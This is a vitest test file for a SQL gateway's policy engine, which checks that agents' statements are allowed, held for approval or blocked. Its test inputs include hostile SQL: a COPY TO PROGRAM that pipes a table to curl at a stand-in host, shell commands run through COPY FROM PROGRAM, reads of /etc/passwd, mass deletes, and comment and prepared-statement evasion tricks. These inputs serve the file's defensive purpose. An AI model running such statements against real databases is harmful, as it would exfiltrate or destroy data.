import { beforeAll, describe, expect, it } from 'vitest';
import { DANGEROUS_FUNCTIONS, isSafeBuiltin, SAFE_BUILTIN_FUNCTIONS } from '../../src/gateway/policy/builtin-functions';
import { parsePolicy } from '../../src/gateway/policy/policy-file';
import { brokenPolicy, compilePolicy, decideSql, maskingPlanFor, policyAppliesToSql, type CompiledPolicy } from '../../src/gateway/policy/policy-engine';
import { DEFAULT_APPROVAL_TIMEOUT_MS, type PolicySubject } from '../../src/gateway/policy/policy-types';
import { analyzeSql, loadSqlParser } from '../../src/gateway/policy/sql-parser';
import { SqlSessionState } from '../../src/gateway/policy/sql-session-state';

beforeAll(async () => {
  await loadSqlParser();
});

function compile(yaml: string): CompiledPolicy {
  const r = parsePolicy(yaml);
  if (!r.ok) throw new Error(JSON.stringify(r.errors));
  return compilePolicy(r.policy);
}

const subject = (connection = 'prod', agent = 'bot', connTags: string[] = [], agentTags: string[] = []): PolicySubject => ({
  connection: { name: connection, tags: connTags },
  agent: { name: agent, tags: agentTags },
});
const BOT = subject();

describe('rules', () => {
  const policy = compile(`
version: 1
rules:
  - name: no-drop
    match: { kinds: [drop table] }
    action: block
  - name: read-users-ok
    match: { tables: [public.users], access: read }
    action: allow
  - name: approve-billing-writes
    match: { tables: ["billing.*"], access: write }
    action: approve
    timeout: 2m
  - name: no-file-reads
    match: { functions: [pg_read_file] }
    action: block
    message: no server files
  - name: no-mass-delete
    match: { conditions: [delete_without_where] }
    action: block
`);

  it('names the rule and the statement', () => {
    expect(decideSql(policy, BOT, 'DROP TABLE public.users')).toEqual({
      action: 'block',
      rule: 'no-drop',
      message: 'blocked by policy rule "no-drop": DROP TABLE public.users',
      timeoutMs: DEFAULT_APPROVAL_TIMEOUT_MS,
    });
    expect(decideSql(policy, BOT, "SELECT pg_read_file('/etc/passwd')").message).toBe('blocked by policy rule "no-file-reads" (no server files): SELECT');
  });

  it('no match: allow with rule null', () => {
    expect(decideSql(policy, BOT, 'SELECT 1')).toMatchObject({ action: 'allow', rule: null });
    expect(decideSql(policy, BOT, 'DROP VIEW v')).toMatchObject({ action: 'allow', rule: null });
  });

  it('an allow rule names itself but never overrides a stricter match', () => {
    expect(decideSql(policy, BOT, 'SELECT * FROM users')).toMatchObject({ action: 'allow', rule: 'read-users-ok' });
    expect(decideSql(policy, BOT, 'SELECT * FROM users; DROP TABLE x')).toMatchObject({ action: 'block', rule: 'no-drop' });
    expect(decideSql(policy, BOT, 'INSERT INTO billing.invoices SELECT * FROM public.users')).toMatchObject({ action: 'approve', rule: 'approve-billing-writes', timeoutMs: 120_000 });
  });

  it('strictest wins across statements: block > approve > allow', () => {
    const d = decideSql(policy, BOT, "INSERT INTO billing.x VALUES (1); SELECT pg_read_file('x'); SELECT 1");
    expect(d).toMatchObject({ action: 'block', rule: 'no-file-reads' });
    expect(decideSql(policy, BOT, 'SELECT 1; INSERT INTO billing.x VALUES (1)')).toMatchObject({ action: 'approve' });
  });

  it('table patterns: schema globs, case, search path', () => {
    expect(decideSql(policy, BOT, 'UPDATE BILLING.Invoices SET a = 1 WHERE id = 1').action).toBe('approve');
    expect(decideSql(policy, BOT, 'UPDATE "billing"."invoices" SET a = 1 WHERE id = 1').action).toBe('approve');
    // Unqualified: public only by default...
    expect(decideSql(policy, BOT, 'UPDATE invoices SET a = 1 WHERE id = 1').action).toBe('allow');
    // ...but once the session put billing on its search path, unqualified names may be billing's.
    const state = new SqlSessionState();
    state.apply(analyzeSql('SET search_path TO billing, public'));
    expect(decideSql(policy, BOT, 'UPDATE invoices SET a = 1 WHERE id = 1', state).action).toBe('approve');
    // set_config can change it invisibly: then unqualified names match every schema.
    const s2 = new SqlSessionState();
    s2.apply(analyzeSql("SELECT set_config('search_path', 'billing', false)"));
    expect(s2.searchPath).toBeNull();
    expect(decideSql(policy, BOT, 'UPDATE invoices SET a = 1 WHERE id = 1', s2).action).toBe('approve');
  });

  it('hiding techniques are decided on what the parser sees', () => {
    const cases = [
      '/* hi */ DrOp /* x */ TaBlE "users" -- bye',
      'SELECT 1; DROP TABLE users',
      'BEGIN; DROP TABLE users; COMMIT',
      'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d',
      'EXPLAIN ANALYZE DELETE FROM t',
      'CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM victims',
    ];
    for (const sql of cases) expect(decideSql(policy, BOT, sql).action, sql).toBe('block');
    expect(decideSql(policy, BOT, 'EXPLAIN DELETE FROM t').action).toBe('allow');
  });

  it('no false positives on look-alikes', () => {
    for (const sql of [`SELECT 'drop table users' AS "drop"`, 'SELECT "drop", "delete" FROM t -- DELETE FROM t', '/* DROP TABLE users */ SELECT 1', 'DELETE FROM t WHERE id = 1']) {
      expect(decideSql(policy, BOT, sql).action, sql).toBe('allow');
    }
  });
});

describe('scope', () => {
  const policy = compile(`
version: 1
rules:
  - name: prod-only
    scope: { connections: [prod-*] }
    match: { kinds: [delete] }
    action: block
  - name: tagged
    scope: { connectionTags: [pci], agentTags: [external] }
    match: { kinds: [select] }
    action: approve
  - name: one-agent
    scope: { agents: [intern] }
    action: approve
masking:
  - name: pii
    scope: { agents: [bot*] }
    columns: [email]
    detectors: [email]
    custom: [{ name: emp, pattern: "E\\\\d+" }]
    strategy: hash
  - name: cards
    columns: [card]
    strategy: { partial: 4 }
`);

  it('by connection name glob', () => {
    expect(decideSql(policy, subject('prod-eu'), 'DELETE FROM t WHERE id = 1').action).toBe('block');
    expect(decideSql(policy, subject('staging'), 'DELETE FROM t WHERE id = 1').action).toBe('allow');
  });

  it('by tags: every given list must match', () => {
    expect(decideSql(policy, subject('db', 'a', ['pci'], ['external']), 'SELECT 1').action).toBe('approve');
    expect(decideSql(policy, subject('db', 'a', ['pci'], []), 'SELECT 1').action).toBe('allow');
    expect(decideSql(policy, subject('db', 'a', [], ['external']), 'SELECT 1').action).toBe('allow');
  });

  it('by agent name; a rule without match matches every statement', () => {
    expect(decideSql(policy, subject('db', 'intern'), 'SHOW work_mem')).toMatchObject({ action: 'approve', rule: 'one-agent' });
    expect(decideSql(policy, subject('db', 'other'), 'SHOW work_mem').action).toBe('allow');
  });

  it('policyAppliesToSql follows scopes', () => {
    expect(policyAppliesToSql(policy, subject('prod-1'))).toBe(true);
    expect(policyAppliesToSql(policy, subject('db', 'x'))).toBe(false);
    expect(policyAppliesToSql(compile('version: 1\n'), BOT)).toBe(false);
  });

  it('maskingPlanFor collects column and value rules in scope', () => {
    expect(maskingPlanFor(policy, subject('db', 'bot-1'))).toEqual({
      columns: [
        { rule: 'pii', columns: ['email'], strategy: { kind: 'hash' } },
        { rule: 'cards', columns: ['card'], strategy: { kind: 'partial', keep: 4 } },
      ],
      values: [{ rule: 'pii', detectors: ['email'], custom: [{ name: 'emp', pattern: 'E\\d+' }], strategy: { kind: 'hash' } }],
    });
    expect(maskingPlanFor(policy, subject('db', 'alice'))).toEqual({ columns: [{ rule: 'cards', columns: ['card'], strategy: { kind: 'partial', keep: 4 } }], values: [] });
  });
});

describe('parse failures', () => {
  it('block when SQL policy applies to the subject (fail closed)', () => {
    const policy = compile('version: 1\nrules:\n  - { name: r, scope: { agents: [bot] }, match: { kinds: [drop table] }, action: block }\n');
    const d = decideSql(policy, BOT, 'DROP TABLE users; SELEC 1');
    expect(d.action).toBe('block');
    expect(d.rule).toBeNull();
    expect(d.message).toMatch(/could not be parsed.*syntax error/);
  });

  it('forward when nothing could apply', () => {
    const policy = compile('version: 1\nrules:\n  - { name: r, scope: { agents: [other] }, match: { kinds: [drop table] }, action: block }\n');
    expect(decideSql(policy, BOT, 'SELEC 1')).toMatchObject({ action: 'allow', rule: null });
    expect(decideSql(compile('version: 1\n'), BOT, 'SELEC 1').action).toBe('allow');
  });

  it('a preset applying is enough to fail closed', () => {
    expect(decideSql(compile('version: 1\npresets: [destructive]\n'), BOT, 'SELEC 1').action).toBe('block');
  });

  it('a broken stored policy blocks everything and masks everything', () => {
    const broken = brokenPolicy('rules[0].action: invalid');
    expect(decideSql(broken, BOT, 'SELECT 1')).toMatchObject({ action: 'block', rule: null });
    expect(decideSql(broken, BOT, 'SELECT 1').message).toMatch(/policy could not be loaded \(rules\[0\]\.action: invalid\)/);
    expect(policyAppliesToSql(broken, BOT)).toBe(true);
    expect(maskingPlanFor(broken, BOT).columns[0].columns).toEqual(['*']);
  });
});

describe('PREPARE and EXECUTE through SqlSessionState', () => {
  const policy = compile('version: 1\nrules:\n  - { name: no-delete, match: { kinds: [delete] }, action: block }\n');

  it('PREPARE is decided on its statement', () => {
    expect(decideSql(policy, BOT, 'PREPARE p AS DELETE FROM t WHERE id = $1')).toMatchObject({ action: 'block', rule: 'no-delete' });
    expect(decideSql(policy, BOT, 'PREPARE p AS SELECT 1').action).toBe('allow');
  });

  it('EXECUTE is decided on what the session prepared under that name', () => {
    const state = new SqlSessionState();
    state.apply(analyzeSql('PREPARE q AS SELECT 1'));
    expect(decideSql(policy, BOT, 'EXECUTE q', state).action).toBe('allow');
    // A statement prepared through the extended protocol shares the namespace.
    state.recordPrepared('bad', analyzeSql('DELETE FROM t WHERE id = $1'));
    const d = decideSql(policy, BOT, 'EXECUTE bad(1)', state);
    expect(d).toMatchObject({ action: 'block', rule: 'no-delete' });
    expect(d.message).toBe('blocked by policy rule "no-delete": EXECUTE bad (DELETE FROM t)');
  });

  it('EXPLAIN ANALYZE EXECUTE and CREATE TABLE AS EXECUTE are decided on the prepared statement', () => {
    const state = new SqlSessionState();
    state.recordPrepared('bad', analyzeSql('DELETE FROM t WHERE id = 1'));
    expect(decideSql(policy, BOT, 'EXPLAIN ANALYZE EXECUTE bad', state)).toMatchObject({ action: 'block', rule: 'no-delete' });
    expect(decideSql(policy, BOT, 'CREATE TABLE x AS EXECUTE bad', state)).toMatchObject({ action: 'block', rule: 'no-delete' });
    expect(decideSql(policy, BOT, 'EXPLAIN ANALYZE EXECUTE unknown', state)).toMatchObject({ action: 'block', rule: null });
  });

  it('re-preparing a name keeps the earlier statement in view (the second PREPARE may have failed)', () => {
    const state = new SqlSessionState();
    state.recordPrepared('p', analyzeSql('DELETE FROM t WHERE id = 1'));
    state.apply(analyzeSql('PREPARE p AS SELECT 1'));
    expect(decideSql(policy, BOT, 'EXECUTE p', state).action).toBe('block');
    state.apply(analyzeSql('DEALLOCATE p'));
    expect(state.lookup('p')).toEqual([]);
  });

  it('a PREPARE earlier in the same request counts for its EXECUTE; deciding does not change the session', () => {
    const state = new SqlSessionState();
    expect(decideSql(policy, BOT, 'PREPARE s AS SELECT 1; EXECUTE s', state).action).toBe('allow');
    expect(state.lookup('s')).toEqual([]);
    expect(decideSql(policy, BOT, 'EXECUTE s', state).action).toBe('block');
    expect(decideSql(policy, BOT, 'DEALLOCATE ALL; EXECUTE s', state).action).toBe('block');
  });

  it('EXECUTE of an unknown name is blocked when SQL policy applies; DEALLOCATE ALL and DISCARD ALL forget', () => {
    const state = new SqlSessionState();
    expect(decideSql(policy, BOT, 'EXECUTE nope', state)).toMatchObject({ action: 'block', rule: null });
    expect(decideSql(compile('version: 1\n'), BOT, 'EXECUTE nope', state).action).toBe('allow');
    state.apply(analyzeSql('PREPARE a AS SELECT 1; PREPARE b AS SELECT 2'));
    expect(decideSql(policy, BOT, 'EXECUTE a; EXECUTE b', state).action).toBe('allow');
    state.apply(analyzeSql('DEALLOCATE ALL'));
    expect(decideSql(policy, BOT, 'EXECUTE a', state).action).toBe('block');
    state.apply(analyzeSql('PREPARE a AS SELECT 1'));
    state.apply(analyzeSql('DISCARD ALL'));
    expect(state.lookup('a')).toEqual([]);
  });
});

describe('a DEALLOCATE or Close may fail upstream: what a name held before stays in view', () => {
  const policy = compile('version: 1\nrules:\n  - { name: no-delete, match: { kinds: [delete] }, action: block }\n');

  it('EXECUTE after DEALLOCATE + re-PREPARE is decided on both statements', () => {
    const state = new SqlSessionState();
    state.recordPrepared('p', analyzeSql('DELETE FROM t WHERE id = 1'));
    state.apply(analyzeSql('DEALLOCATE p'));
    expect(decideSql(policy, BOT, 'EXECUTE p', state).action).toBe('block');
    state.apply(analyzeSql('PREPARE p AS SELECT 1'));
    expect(decideSql(policy, BOT, 'EXECUTE p', state)).toMatchObject({ action: 'block', rule: 'no-delete' });
  });

  it('a named Parse is decided on what the name held before a Close', () => {
    const state = new SqlSessionState();
    state.recordPrepared('w', analyzeSql('DELETE FROM t WHERE id = 1'));
    state.forget('w');
    expect(decideSql(policy, BOT, 'SELECT 1', state, 'w')).toMatchObject({ action: 'block', rule: 'no-delete' });
    expect(decideSql(policy, BOT, 'SELECT 1', state, 'other').action).toBe('allow');
  });

  it('past the memory bound, a name whose history was dropped is refused when used again', () => {
    const state = new SqlSessionState();
    state.recordPrepared('first', analyzeSql('SELECT 1'));
    state.forget('first');
    for (let i = 0; i < 2100; i++) {
      state.recordPrepared(`s${i}`, analyzeSql('SELECT 1'));
      state.forget(`s${i}`);
    }
    expect(decideSql(policy, BOT, 'SELECT 2', state, 'first')).toMatchObject({ action: 'block', rule: null });
    state.recordPrepared('first', analyzeSql('SELECT 2'));
    expect(decideSql(policy, BOT, 'EXECUTE first', state)).toMatchObject({ action: 'block', rule: null });
    // A fresh name is fine.
    state.recordPrepared('fresh', analyzeSql('SELECT 2'));
    expect(decideSql(policy, BOT, 'EXECUTE fresh', state).action).toBe('allow');
  });
});

describe('destructive preset: role changes and code that runs unseen', () => {
  const policy = compile('version: 1\npresets: [destructive]\n');
  it.each(['SET ROLE boss', 'SET LOCAL ROLE boss', 'RESET ROLE', 'SET SESSION AUTHORIZATION boss', 'RESET SESSION AUTHORIZATION', "ALTER DATABASE app SET role = 'boss'"])(
    '%s is blocked as a role change',
    (sql) => {
      const d = decideSql(policy, BOT, sql);
      expect(d.action).toBe('block');
      expect(d.message).toContain('role change');
    },
  );
  it.each([
    "CREATE FUNCTION public.lower(int) RETURNS int LANGUAGE sql AS 'SELECT 1'",
    'CREATE OR REPLACE PROCEDURE p() LANGUAGE sql AS $$ SELECT 1 $$',
    'CREATE OPERATOR public.=== (leftarg = int, rightarg = int, function = int4eq)',
    'CREATE AGGREGATE a(int) (sfunc = int4pl, stype = int)',
    'CREATE CAST (int AS text) WITH FUNCTION f(int)',
    'ALTER FUNCTION f() RENAME TO lower',
    'ALTER FUNCTION f() SET SCHEMA pg_temp',
    'CREATE EXTENSION hstore',
  ])('%s needs approval', (sql) => {
    expect(decideSql(policy, BOT, sql).action).toBe('approve');
  });
  it('harmless settings and plain DDL stay allowed', () => {
    for (const sql of ['SET search_path = app, public', 'RESET ALL', 'CREATE TABLE t (id int)', 'CREATE VIEW v AS SELECT 1', 'CREATE TYPE mood AS ENUM (\'a\')']) {
      expect(decideSql(policy, BOT, sql).action, sql).toBe('allow');
    }
  });
});

describe('masking by table.column is enforced on statements too (no laundering)', () => {
  const policy = compile('version: 1\nmasking:\n  - { name: names, columns: [customers.name], strategy: redact }\n  - { name: by-name, columns: [email], strategy: redact }\n');
  it('a column pattern for every table ("*.email") is a name pattern: it protects no table', () => {
    const wide = compile('version: 1\nmasking:\n  - { name: w, columns: ["*.email", "public.*.ssn"], strategy: redact }\n');
    expect(policyAppliesToSql(wide, BOT)).toBe(false);
    expect(decideSql(wide, BOT, 'INSERT INTO a SELECT * FROM b').action).toBe('allow');
  });

  it('applies to SQL (parsed, fail closed) as soon as a table.column masking rule applies', () => {
    expect(policyAppliesToSql(policy, BOT)).toBe(true);
    expect(policyAppliesToSql(compile('version: 1\nmasking:\n  - { name: d, detectors: [email] }\n'), BOT)).toBe(false);
  });
  it.each([
    'CREATE VIEW v AS SELECT name FROM customers',
    'CREATE TABLE t AS SELECT * FROM customers',
    'INSERT INTO t SELECT name FROM public.customers',
    'UPDATE t SET x = (SELECT name FROM customers LIMIT 1) WHERE id = 1',
    'ALTER TABLE customers RENAME COLUMN name TO n',
    'ALTER TABLE app.customers RENAME TO people',
    'ALTER SCHEMA public RENAME TO open',
    'PREPARE p AS INSERT INTO t SELECT name FROM customers',
  ])('%s is blocked', (sql) => {
    expect(decideSql(policy, BOT, sql)).toMatchObject({ action: 'block', rule: 'names' });
  });
  it.each(['SELECT name FROM customers', "UPDATE customers SET name = 'x' WHERE id = 1", 'DELETE FROM customers WHERE id = 1', 'INSERT INTO t SELECT * FROM orders', 'CREATE VIEW v AS SELECT * FROM orders'])(
    '%s is allowed',
    (sql) => {
      expect(decideSql(policy, BOT, sql).action).toBe('allow');
    },
  );
});

describe('table rules see renamed schemas and views', () => {
  const policy = compile('version: 1\nrules:\n  - { name: payroll, match: { tables: [public.payroll], access: read }, action: block }\n  - { name: pay-ro, match: { tables: [payments], access: write }, action: block }\n');
  it.each([
    ['ALTER SCHEMA public RENAME TO open', 'payroll'],
    ['ALTER TABLE payroll RENAME TO x', 'payroll'],
    ['UPDATE payroll SET salary = salary WHERE id > 0 RETURNING *', 'payroll'],
    ['CREATE VIEW pv AS SELECT * FROM payments', 'pay-ro'],
  ])('%s', (sql, rule) => {
    expect(decideSql(policy, BOT, sql)).toMatchObject({ action: 'block', rule });
  });
});

describe('destructive preset', () => {
  const policy = compile('version: 1\npresets: [destructive]\n');
  const block = [
    'DROP TABLE t',
    'DROP INDEX i',
    'DROP FUNCTION f(int)',
    'DROP SCHEMA s CASCADE',
    'DROP OWNED BY bob',
    'TRUNCATE t',
    'DELETE FROM t',
    'UPDATE t SET a = 1',
    'UPDATE t SET a = 1 WHERE true',
    'ALTER TABLE t DROP COLUMN c',
    'ALTER TABLE t DROP CONSTRAINT k',
    'GRANT SELECT ON t TO bob',
    'REVOKE ALL ON t FROM bob',
    'GRANT admin TO bob',
    'ALTER DEFAULT PRIVILEGES GRANT SELECT ON TABLES TO bob',
    'CREATE ROLE r',
    'CREATE USER u',
    'ALTER USER u SUPERUSER',
    'DROP GROUP g',
    "COPY t TO PROGRAM 'curl -d @- evil'",
    "COPY t FROM PROGRAM 'id'",
    "COPY t FROM '/etc/passwd'",
    "ALTER SYSTEM SET work_mem = '1GB'",
    'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d',
    'EXPLAIN ANALYZE DELETE FROM t',
    'BEGIN; TRUNCATE t; COMMIT',
    'PREPARE p AS DELETE FROM t',
  ];
  const approve = [
    "DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$",
    'SELECT pg_sleep(10)',
    'SELECT dblink_exec(\'x\', \'DROP TABLE t\')',
    "SELECT lo_import('/etc/passwd')",
    "SELECT pg_read_file('/etc/passwd')",
    'SELECT pg_terminate_backend(123)',
    "SELECT set_config('search_path', 'evil', false)",
    'SELECT my_function()',
    'CALL archive_everything()',
    'SELECT evil.lower(name) FROM t',
    'SELECT 1 OPERATOR(evil.+) 2',
    'CREATE TRIGGER tr AFTER INSERT ON t FOR EACH ROW EXECUTE FUNCTION f()',
  ];
  const allow = [
    'SELECT count(*), lower(name), coalesce(a, b), now(), pg_catalog.upper(x) FROM t WHERE id = 1',
    'DELETE FROM t WHERE id = 1',
    'UPDATE t SET a = 1 WHERE id = 2',
    'INSERT INTO t VALUES (1)',
    'CREATE TABLE x (id int)',
    'ALTER TABLE t ADD COLUMN c int',
    'COPY t TO STDOUT',
    'COPY t FROM STDIN',
    "SELECT 'DROP TABLE t' AS \"drop\"",
    'BEGIN',
    'EXPLAIN DELETE FROM t',
    "SELECT * FROM generate_series(1, 10) g, jsonb_each('{}'::jsonb)",
  ];
  it.each(block)('blocks %s', (sql) => {
    const d = decideSql(policy, BOT, sql);
    expect(d.action).toBe('block');
    expect(d.rule).toBe('destructive');
    expect(d.message).toMatch(/^blocked by policy preset "destructive" \(/);
  });
  it.each(approve)('holds %s for approval', (sql) => {
    expect(decideSql(policy, BOT, sql)).toMatchObject({ action: 'approve', rule: 'destructive', timeoutMs: DEFAULT_APPROVAL_TIMEOUT_MS });
  });
  it.each(allow)('allows %s', (sql) => {
    expect(decideSql(policy, BOT, sql)).toMatchObject({ action: 'allow', rule: null });
  });

  it('allowFunctions, action override, timeout, scope', () => {
    const p = compile(`
version: 1
presets:
  - name: destructive
    scope: { connections: [prod] }
    allowFunctions: [my_function, "app.*"]
    timeout: 30s
`);
    expect(decideSql(p, BOT, 'SELECT my_function(), app.f()').action).toBe('allow');
    expect(decideSql(p, BOT, 'SELECT other()')).toMatchObject({ action: 'approve', timeoutMs: 30_000 });
    expect(decideSql(p, subject('staging'), 'DROP TABLE t').action).toBe('allow');
    const strict = compile('version: 1\npresets: [{ name: destructive, action: block }]\n');
    expect(decideSql(strict, BOT, 'DO $$ BEGIN END $$').action).toBe('block');
    const soft = compile('version: 1\npresets: [{ name: destructive, action: approve }]\n');
    expect(decideSql(soft, BOT, 'DROP TABLE t').action).toBe('approve');
  });

  it('names the reason', () => {
    expect(decideSql(policy, BOT, 'DELETE FROM public.users').message).toBe('blocked by policy preset "destructive" (DELETE without WHERE): DELETE FROM public.users');
    expect(decideSql(policy, BOT, 'SELECT dblink_exec(1)').message).toBe('approval required by policy preset "destructive" (calls dblink_exec): SELECT');
  });

  it('a rule and the preset together: strictest wins', () => {
    const p = compile('version: 1\npresets: [destructive]\nrules:\n  - { name: ok-drops, match: { kinds: [drop table] }, action: allow }\n');
    expect(decideSql(p, BOT, 'DROP TABLE t')).toMatchObject({ action: 'block', rule: 'destructive' });
  });

  it('safe and dangerous function lists do not overlap', () => {
    for (const f of DANGEROUS_FUNCTIONS) expect(SAFE_BUILTIN_FUNCTIONS.has(f), f).toBe(false);
    expect(isSafeBuiltin('pg_catalog.now')).toBe(true);
    expect(isSafeBuiltin('public.now')).toBe(false);
  });
});
